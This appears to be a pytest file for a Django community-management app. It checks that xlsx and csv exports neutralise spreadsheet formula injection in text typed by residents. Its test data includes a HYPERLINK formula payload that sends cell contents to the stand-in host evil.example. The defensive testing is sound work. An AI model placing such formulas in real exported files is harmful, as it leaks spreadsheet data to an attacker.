"""Exported spreadsheets never carry a live formula: text typed by a resident that starts with = + - @, a
tab or a carriage return goes out as text, in every export (四项清单 xlsx, registry xlsx and csv)."""

import csv
import datetime as dt
import io

import openpyxl
import pytest

from wangge.conftest import DEMO_COMMUNITY, DEMO_GRID
from wangge.lib.sheets import safe_cell, write_book, write_table
from wangge.people.models import Resident

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]


def test_formula_text_is_neutralised_and_other_values_kept() -> None:
    for text in ATTACKS:
        assert safe_cell(text) == "'" + text
    day = dt.date(2026, 11, 27)
    for kept in ("楼道灯不亮", "1=1", "", 42, -5, 3.5, day, None):
        assert safe_cell(kept) == kept


def test_xlsx_cells_are_text_not_formulas() -> None:
    book = openpyxl.load_workbook(io.BytesIO(write_book([("表", [ATTACKS, [-5, 1.5]])])))
    sheet = book["表"]
    first = [c for c in next(sheet.iter_rows(min_row=1, max_row=1))]
    assert all(c.data_type == "s" and c.value.startswith("'") for c in first)
    assert [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))][:2] == [-5, 1.5]


def test_csv_cells_start_with_the_text_mark() -> None:
    rows = list(csv.reader(io.StringIO(write_table([ATTACKS], fmt="csv").decode("utf-8-sig"))))
    assert rows == [["'" + a for a in ATTACKS]]


@pytest.mark.django_db
def test_the_exports_neutralise_what_residents_typed(client_for, new_ticket) -> None:  # type: ignore[no-untyped-def]
    attack = ATTACKS[0]
    new_ticket(attack, "标题是一个公式")
    resident = Resident.objects.filter(household__area__code__startswith=DEMO_GRID).order_by("id").first()
    Resident.objects.filter(pk=resident.pk).update(notes=attack)
    community = client_for("community")

    lists = community.get(f"/areas/{DEMO_COMMUNITY}/lists.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(lists.content))
    cells = [c for row in book["居民诉求"].iter_rows() for c in row if c.value and attack in str(c.value)]
    assert cells and all(c.data_type == "s" and c.value == "'" + attack for c in cells)

    xlsx = community.get(f"/registry/export/?area={DEMO_GRID}&format=xlsx")
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    cells = [c for row in book["居民"].iter_rows() for c in row if c.value and attack in str(c.value)]
    assert cells and all(c.data_type == "s" and c.value == "'" + attack for c in cells)

    text = community.get(f"/registry/export/?area={DEMO_GRID}&format=csv").content.decode("utf-8-sig")
    found = [cell for row in csv.reader(io.StringIO(text)) for cell in row if attack in cell]
    assert found == ["'" + attack]
